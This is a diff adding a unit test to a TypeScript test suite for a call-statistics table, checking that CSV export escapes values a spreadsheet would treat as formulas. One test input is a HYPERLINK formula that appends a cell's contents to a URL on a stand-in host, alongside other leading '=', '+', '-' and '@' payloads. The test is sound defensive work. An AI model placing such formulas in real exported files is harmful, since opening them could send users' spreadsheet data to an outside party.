@@ -71,6 +71,19 @@ describe('StreamTable', () => {
     expect([...new StreamTable().chunks('json')].join('')).toBe('[]\n');
   });
 
+  it('CSV: text from the wire that a spreadsheet would take for a formula is marked as text; numbers and JSON as they are', () => {
+    const t = new StreamTable();
+    t.add(report(1, { CORRELATION_ID: '=HYPERLINK("http://x.example/?"&A1,"open")', CODEC_NAME: '+cmd' }));
+    t.add(report(2, { CORRELATION_ID: '@SUM(1+1)', CODEC_NAME: '-pcma' }));
+    t.add(report(3, { CORRELATION_ID: 'plain=@x' }));
+    const csv = [...t.chunks('csv')].join('').split('\n');
+    expect(csv[1]).toBe(`10.0.0.1:10001,192.0.2.1:20000,0x00000001,'+cmd,250,0 (0.0%),20.500,0.250,1.500,-0.500,4.41,"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`);
+    expect(csv[2]).toBe("10.0.0.2:10002,192.0.2.1:20000,0x00000002,'-pcma,250,0 (0.0%),20.500,0.250,1.500,-0.500,4.41,'@SUM(1+1)");
+    expect(csv[3]!.endsWith(',plain=@x')).toBe(true);
+    const json = JSON.parse([...t.chunks('json')].join('')) as Array<Record<string, unknown>>;
+    expect(json.map((r) => [r.codec, r.callId])).toEqual([['+cmd', '=HYPERLINK("http://x.example/?"&A1,"open")'], ['-pcma', '@SUM(1+1)'], ['pcma', 'plain=@x']]);
+  });
+
   it('selection: Call-IDs, MOS below, loss above (either threshold)', () => {
     const t = new StreamTable({ mosBelow: 3.6, lossAbovePct: 2 });
     t.add(report(1));
